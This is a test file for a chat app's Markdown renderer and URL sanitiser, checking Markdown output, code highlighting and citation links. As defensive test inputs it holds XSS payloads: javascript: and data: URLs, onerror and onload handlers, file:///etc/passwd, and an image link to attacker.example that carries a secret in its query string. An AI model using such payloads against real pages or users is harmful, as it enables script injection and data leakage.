import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/chat/markdown";
import type { Citation } from "@/components/chat/types";
import { safeUrl } from "@/lib/markdown/safe-url";

const render = (text: string, citations: Citation[] = []) => renderToStaticMarkup(createElement(Markdown, { text, citations }));

const citation = (index: number): Citation => ({
  index,
  document_id: "0190a0a0-0000-7000-8000-000000000001",
  filename: "manual.pdf",
  page_start: 73,
  page_end: 73,
  chunk_id: `0190a0a0-0000-7000-8000-00000000010${index}`,
  score: 0.9,
  snippet: "The coolant is 412 kelvin.",
});

describe("safeUrl", () => {
  it("passes absolute http, https and mailto URLs", () => {
    expect(safeUrl("https://example.com/a?b=1")).toBe("https://example.com/a?b=1");
    expect(safeUrl(" http://example.com ")).toBe("http://example.com/");
    expect(safeUrl("mailto:someone@example.com")).toBe("mailto:someone@example.com");
    expect(safeUrl("#user-content-fn-1")).toBe("#user-content-fn-1");
  });

  it("refuses script, data and other schemes, however they are spelled, and relative URLs", () => {
    for (const url of [
      "javascript:alert(1)",
      " JavaScript:alert(1)",
      "java\tscript:alert(1)",
      "vbscript:msgbox(1)",
      "data:text/html,<script>alert(1)</script>",
      "file:///etc/passwd",
      "/settings/api-keys",
      "//attacker.example/x",
      "relative/path",
      "",
    ]) {
      expect(safeUrl(url), url).toBeUndefined();
    }
  });
});

describe("Markdown", () => {
  it("renders GitHub-flavoured Markdown", () => {
    const html = render("# Title\n\n**bold** ~~gone~~ `inline`\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\nhttps://example.com");
    expect(html).toContain("<h1");
    expect(html).toMatch(/<strong[^>]*>bold<\/strong>/);
    expect(html).toMatch(/<del[^>]*>gone<\/del>/);
    expect(html).toMatch(/<code>inline<\/code>/);
    expect(html).toMatch(/<table[^>]*>.*<th[^>]*>a<\/th>.*<td[^>]*style="text-align:center"[^>]*>2<\/td>/s);
    expect(html).toMatch(/<input type="checkbox" disabled=""[^>]*checked=""\/> done/);
    expect(html).toMatch(/<input type="checkbox" disabled=""[^>]*aria-label="Not done"\/> todo/);
    expect(html).toMatch(/<a href="https:\/\/example.com\/?" target="_blank" rel="noopener noreferrer"/);
  });

  it("highlights fenced code under a header with its language and a copy button", () => {
    const html = render("```ts\nconst answer: number = 42;\n```");
    expect(html).toMatch(/<span[^>]*>ts<\/span>/);
    expect(html).toContain('aria-label="Copy code"');
    expect(html).toMatch(/<code class="hljs language-ts">.*<span class="hljs-keyword">const<\/span>/s);
  });

  it("renders an unclosed fence (a reply still streaming) as code", () => {
    expect(render("Look:\n\n```py\nprint(1)")).toMatch(/<pre[^>]*><code class="hljs language-py">/);
  });

  it("shows raw HTML as text and never renders it", () => {
    const html = render('<script>window.__xss=1</script>\n\nInline <img src=x onerror="window.__xss=2"> and <a href="javascript:alert(1)">x</a>\n\n<svg onload="alert(1)"></svg>\n\n<iframe src="https://attacker.example"></iframe>');
    expect(html).not.toMatch(/<(script|img|svg|iframe)\b/i);
    expect(html).not.toMatch(/<a\b[^>]*javascript:/i);
    expect(html).toContain("&lt;script&gt;window.__xss=1&lt;/script&gt;");
    expect(html).toContain("&lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;");
  });

  it("renders links to refused URLs as their text, not as links", () => {
    const html = render("[click](javascript:window.__xss=3) [data](data:text/html;base64,PHNjcmlwdD4=) [rel](/settings)");
    expect(html).not.toContain("<a");
    expect(html).toContain("click");
    expect(html).toContain("data");
  });

  it("turns images into links that load nothing", () => {
    const html = render("![secret](https://attacker.example/?q=secret) ![bad](javascript:alert(1))");
    expect(html).not.toMatch(/<img\b/);
    expect(html).toMatch(/<a href="https:\/\/attacker.example\/\?q=secret" target="_blank" rel="noopener noreferrer"[^>]*>.*Image: secret<\/a>/s);
    expect(html).toContain("[Image: bad]");
  });

  it("turns [n] markers naming a citation into source links, outside code and links only", () => {
    const html = render("Coolant is 412 K [1]. Unknown [7] stays. `a[1]` and [link [1]](https://example.com).\n\n```\nx[1]\n```", [citation(1)]);
    expect(html.match(/aria-label="Source 1: manual.pdf page 73"/g)).toHaveLength(1);
    expect(html).toContain("[7]");
    expect(html).toContain("<code>a[1]</code>");
  });

  it("turns a combined marker [1, 2] into two source links", () => {
    const html = render("Both [1, 2].", [citation(1), citation(2)]);
    expect(html).toContain('aria-label="Source 1: manual.pdf page 73"');
    expect(html).toContain('aria-label="Source 2: manual.pdf page 73"');
  });
});
